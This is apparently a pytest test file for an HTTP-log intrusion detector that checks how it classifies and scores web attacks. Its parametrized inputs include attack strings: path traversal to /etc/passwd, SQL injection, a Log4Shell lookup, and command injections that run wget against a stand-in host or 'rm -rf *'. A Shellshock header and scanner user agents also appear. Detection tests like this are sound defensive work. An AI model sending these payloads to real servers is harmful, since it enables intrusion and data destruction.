"""Attacks on web servers: what was tried, from which side, and whether the server answered."""

from __future__ import annotations

from pathlib import Path
from typing import Any

import pytest

from mlids.evidence.http_attacks import HttpAttacks
from tests.evidence.http_rows import OUTSIDE, SERVER, found, of_folder, request

INWARD: dict[str, Any] = {"id__orig_h": OUTSIDE, "id__resp_h": SERVER, "host": "www.site.example"}
LATERAL: dict[str, Any] = {"id__resp_h": SERVER, "host": SERVER}
MISSING: dict[str, Any] = {"status_code": 404, "response_body_len": 196}


@pytest.mark.parametrize(
    ("uri", "sort"),
    [
        ("/a/../../../../etc/passwd", "path traversal"),
        ("/cgi-bin/.%2e/.%2e/.%2e/bin/sh", "path traversal"),
        ("/item?id=1+UNION+ALL+SELECT+1,2", "SQL injection"),
        ("/item?id=1 and sleep(5)", "SQL injection"),
        ("/?x=${jndi:ldap://192.0.2.1/a}", "Log4Shell"),
        ("/q?s=<script>alert(1)</script>", "script in a page"),
        ("/cgi-bin/luci/;stok=/locale?country=$(wget http://192.0.2.1/x)", "shell command"),
        ("/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php", "PHP code"),
        ("/uploads/c99.php?act=ls", "web shell"),
        ("/shell?cd+/tmp;rm+-rf+*;wget+http://192.0.2.1/x", "exploit of a device"),
        ("/mgmt/tm/util/bash", "exploit of an application"),
    ],
)
def test_attack_requests_of_a_host_of_the_site(uri: str, sort: str) -> None:
    (one, *_) = found(HttpAttacks, [request(uri=uri, **LATERAL, **MISSING)], "web_attack")
    assert sort in one.subject and one.score >= 0.3 and "none was answered" in one.text and one.target == SERVER and one.uids == ("C0",)


@pytest.mark.parametrize(
    "uri",
    [
        "/", "/search?q=union+membership+selection", "/static/../img/a.png", "/a/../b/../c.js", "/sleep?hours=8", "/catalog?cmd=view",
            "/id;jsessionid=12",
        "/blog/how-to-write-a-script", "/?url=https%3A%2F%2Fexample.org%2F", "/environment/about", "/git/guide",
            "/pages/backup-guide.html", "/data.json",
        "/index.php?db=information_schema", "/solr/core/dataimport?command=full-import", "/goform/login", "/api?cmd=ping",
            "/show.cgi?id=3;sort=name|id",
        "/boot.ini", "/autodiscover/autodiscover.json?Email=a@b.example", "/../../../img/a.png", "/fonts?family=Open+Sans|Cat+Font",
        "/users?name=O'Brien&order=1", "/t?x=${width}&y=${height}", "/ads?cat=id&pos=1", "/MFEwTzBNMEswSTAJBgUrDgMCGgUABBQ50otx/h0Ztl+z8Si",
    ],
)  # fmt: skip
def test_ordinary_requests_are_no_attack(uri: str) -> None:
    assert found(HttpAttacks, [request(uri=uri)]) == []


def test_an_attack_in_the_user_agent_or_referrer_is_seen_and_shown() -> None:
    (log4j,) = found(HttpAttacks, [request(user_agent="${jndi:ldap://192.0.2.1/a}")])
    assert log4j.score == 0.6 and log4j.subject == "Log4Shell" and "${jndi:ldap" in log4j.text
    (shock,) = found(HttpAttacks, [request(referrer="() { :; }; /bin/ls", **LATERAL)])
    assert shock.subject == "Shellshock" and "() {" in shock.text


def test_probes_from_outside_that_got_nothing_are_weak_or_left_out() -> None:
    assert found(HttpAttacks, [request(uri="/.env", **INWARD, **MISSING)]) == []
    many = [request(i, uri=f"/a{i}/.env", **INWARD, **MISSING) for i in range(40)]
    tried = [request(i, uri="/shell?cd+/tmp", **INWARD, **MISSING) for i in range(3)]
    assert max(e.score for e in found(HttpAttacks, many + tried)) <= 0.3


def test_what_the_server_answered_counts_unless_it_answers_everything() -> None:
    beside = [request(i, uri=f"/x{i}", **INWARD, **MISSING) for i in range(9)]
    (one,) = found(HttpAttacks, [request(20, uri="/.git/config", **INWARD), *beside], "web_probe")
    assert one.score == 0.5 and "1 answered with content: /.git/config" in one.text
    assert found(HttpAttacks, [request(20, uri="/.git/config", **INWARD, status_code=200, response_body_len=0), *beside], "web_probe") == []
    anything = [request(i, uri=f"/x{i}", **INWARD) for i in range(9)]
    assert found(HttpAttacks, [request(20, uri="/.git/config", **INWARD), *anything], "web_probe") == []
    by_many = [request(i, uri=f"/{i}/.env", **{**INWARD, "id__orig_h": f"203.0.113.{i}"}) for i in range(9)]
    assert found(HttpAttacks, by_many, "web_probe") == []
    assert (
        found(HttpAttacks, [request(uri="/?a=${jndi:ldap://x}", **INWARD)], "web_attack")[0].score <= 0.3
    )  # a page answers whatever its parameters


def test_pages_of_administration_are_an_administrators_work_unless_none_answers() -> None:
    pages = [request(i, uri=f"/wp-admin/page{i}.php", **LATERAL) for i in range(40)]
    assert found(HttpAttacks, pages) == []
    (searched,) = found(HttpAttacks, [p | MISSING for p in pages], "web_probe")
    assert searched.score == 0.4
    (secrets,) = found(HttpAttacks, [request(i, uri=f"/{i}/.env", **LATERAL, **MISSING) for i in range(4)], "web_probe")
    assert secrets.score == 0.6


def test_a_script_put_on_a_server_and_an_open_proxy() -> None:
    (put,) = found(HttpAttacks, [request(method="PUT", uri="/a.jsp/", status_code=201, response_body_len=0, **INWARD)])
    assert put.subject == "upload of a script" and put.score == 0.5
    (proxy,) = found(HttpAttacks, [request(method="CONNECT", uri="example.org:443", **INWARD)])
    assert proxy.kind == "web_probe" and proxy.subject == "open proxy" and proxy.score == 0.5
    assert found(HttpAttacks, [request(i, method="CONNECT", uri=f"h{i}.example:443", **LATERAL) for i in range(50)]) == []


@pytest.mark.parametrize(
    "agent", ["sqlmap/1.7#stable", "Mozilla/5.00 (Nikto/2.1.6)", "gobuster/3.6", "Mozilla/5.0 (compatible; Nmap Scripting Engine; x)"]
)
def test_scanners(agent: str) -> None:
    (one,) = found(HttpAttacks, [request(i, user_agent=agent, **LATERAL) for i in range(3)], "web_scanner")
    assert one.score == 0.8 and one.count == 3
    (noise,) = found(HttpAttacks, [request(user_agent=agent, **INWARD)], "web_scanner")
    assert noise.score <= 0.3


def test_a_scanner_of_many_servers_is_one_piece_and_surveys_of_the_internet_are_none() -> None:
    (one,) = found(HttpAttacks, [request(i, user_agent="nuclei", id__resp_h=f"10.0.9.{i}") for i in range(30)], "web_scanner")
    assert "30 servers" in one.text and one.count == 30
    assert found(HttpAttacks, [request(user_agent="Mozilla/5.0 zgrab/0.x", **INWARD)]) == []


def test_guessed_paths() -> None:
    guesses = [request(i, uri=f"/word{i}", **LATERAL, **MISSING) for i in range(100)]
    (one,) = found(HttpAttacks, guesses, "web_path_guessing")
    assert one.score == 0.8 and "100 of 100 answers" in one.text
    (outer,) = found(HttpAttacks, [g | {"id.orig_h": OUTSIDE} for g in guesses], "web_path_guessing")
    assert outer.score <= 0.3
    one_folder = [request(i, uri=f"/packages/p{i}.tar", **LATERAL, **MISSING) for i in range(100)]
    broken = [request(i, uri=f"/img{i % 10}.png", **LATERAL, **MISSING) for i in range(100)]
    usual = [request(i, uri=f"/page{i}", **LATERAL) for i in range(300)]
    assert found(HttpAttacks, [*one_folder, *broken]) == [] and found(HttpAttacks, usual + guesses[:30], "web_path_guessing") == []


def test_guessed_logins() -> None:
    form = [request(i, method="POST", uri="/wp-login.php", **LATERAL, response_body_len=3_000) for i in range(200)]
    (one,) = found(HttpAttacks, form, "web_login_guessing")
    assert one.score >= 0.65 and "200 tries on /wp-login.php" in one.text
    basic = [request(i, uri="/admin", username=f"user{i % 12}", status_code=401, **LATERAL) for i in range(60)]
    assert found(HttpAttacks, basic, "web_login_guessing")[0].score >= 0.5
    (outer,) = found(HttpAttacks, [f | {"id.orig_h": OUTSIDE} for f in form], "web_login_guessing")
    assert outer.score <= 0.3
    opened = [*form, request(201, method="POST", uri="/wp-login.php", status_code=302, **LATERAL)]
    (success,) = found(HttpAttacks, [f | {"id.orig_h": OUTSIDE} for f in opened], "web_login_guessing")
    assert success.score >= 0.6 and "1 with a redirection" in success.text


def test_logins_that_work_are_no_guesses() -> None:
    windows = [request(i, uri="/reports", status_code=401 if i % 2 else 200, **LATERAL) for i in range(400)]
    forgotten = [
        request(i, seconds=120, uri="/ews", status_code=401, **LATERAL) for i in range(90)
    ]  # a stored password that is no longer true
    shop = [request(i, method="POST", uri="/api/session", response_body_len=100 + i * 7, **LATERAL) for i in range(60)]
    assert all(e.score < 0.5 for e in found(HttpAttacks, [*windows, *shop])) and all(e.score < 0.5 for e in found(HttpAttacks, forgotten))


def test_real_captures(real_data: Path) -> None:
    for benign in ("more/benign-day", "more/zetaswitch", "stratosphere/010-zeek-mixed", "rita/proxy_rolling"):
        assert [e for e in of_folder(HttpAttacks, real_data / benign) if e.score >= 0.2] == [], benign
    noise = of_folder(HttpAttacks, real_data / "rita/2024-04-19")
    assert noise and max(e.score for e in noise) <= 0.3 and len(noise) < 30
